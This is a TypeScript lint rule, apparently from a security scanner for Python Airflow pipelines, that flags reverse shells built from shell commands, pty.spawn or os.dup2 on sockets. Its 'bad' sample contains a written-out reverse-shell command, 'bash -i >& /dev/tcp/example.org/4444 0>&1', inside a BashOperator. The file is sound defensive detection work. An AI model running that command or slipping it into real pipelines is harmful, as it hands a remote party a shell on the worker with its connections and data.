import type { CodeValue } from "../../python/code/code-facts.ts";
import { defineRule } from "../define-rule.ts";
import { quoteCode, textsIn } from "./code-values.ts";
import { connectsBack } from "./connect-back.ts";
import { shellCommands } from "./shell-commands.ts";
import { wordCommands } from "./word-commands.ts";

/** A program that takes commands, by the end of its path. */
const shellName = /(?:^|\/)(?:ba|da|z|k|c|tc|fi)?sh$/;

export const reverseShell = defineRule<{ what: string }>({
  id: "SEC-012",
  name: "reverse-shell",
  severity: "error",
  confidence: "high",
  about: "python",
  reach: "file",
  summary: "A shell is connected with the network.",
  why: "It gives whoever is at the other end a shell on the worker, with its connections and data. No data pipeline needs that.",
  message: ({ what }) => `This connects a shell with the network: ${quoteCode(what)}.`,
  remedy: () => "Remove it; to wait for a server, use a sensor, or `nc -z HOST PORT`.",
  bad: `
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.sdk import DAG

    with DAG("debug", schedule=None):
        BashOperator(task_id="debug", bash_command="bash -i >& /dev/tcp/example.org/4444 0>&1")
  `,
  good: `
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.sdk import DAG

    with DAG("wait", schedule=None):
        BashOperator(task_id="wait", bash_command="until nc -z db.example.org 5432; do sleep 5; done")
  `,
  check({ code }, report) {
    if (code === null) return;
    for (const { value, span } of shellCommands(code)) {
      const found = [...textsIn(value)].map(connectsBack).find((one) => one !== null);
      if (found != null) report(span, { what: found });
    }
    for (const { words, span } of wordCommands(code)) {
      const found = connectsBack(words);
      if (found !== null) report(span, { what: found });
    }
    const usesSockets = code.calls.some(({ paths }) => paths.some((path) => path.startsWith("socket.")));
    for (const { paths, span, arguments: given } of code.calls) {
      const isShell = paths.includes("pty.spawn") && (startsShell(given[0]?.value) || usesSockets);
      const isSocket =
        paths.includes("os.dup2") &&
        given.some(
          ({ value }) => value.kind === "call" && value.paths.some((path) => /^socket\..*\.fileno$/.test(path)),
        );
      if (isShell || isSocket) report(span, { what: isShell ? "pty.spawn" : "os.dup2" });
    }
  },
});

function startsShell(value: CodeValue | undefined): boolean {
  return value !== undefined && [...textsIn(value)].some((text) => shellName.test(text));
}
